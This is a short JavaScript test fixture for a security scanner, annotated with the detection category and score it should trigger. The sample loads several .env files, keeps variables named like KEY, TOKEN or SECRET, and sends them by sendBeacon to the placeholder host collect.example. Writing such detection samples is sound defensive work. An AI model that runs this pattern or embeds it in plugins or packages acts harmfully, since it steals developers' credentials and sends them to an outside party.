// expect: category=process-access min=90 context=plugin,package
// why: process.loadEnvFile (a newer API) pulls secrets from .env files, then they are read out.
for (const f of ['.env', '.env.local', '.env.production']) {
  try {
    process.loadEnvFile(f);
  } catch {}
}

const secrets = Object.entries(process.env).filter(([k]) => /KEY|TOKEN|SECRET/.test(k));
navigator.sendBeacon('https://collect.example/e', JSON.stringify(secrets));
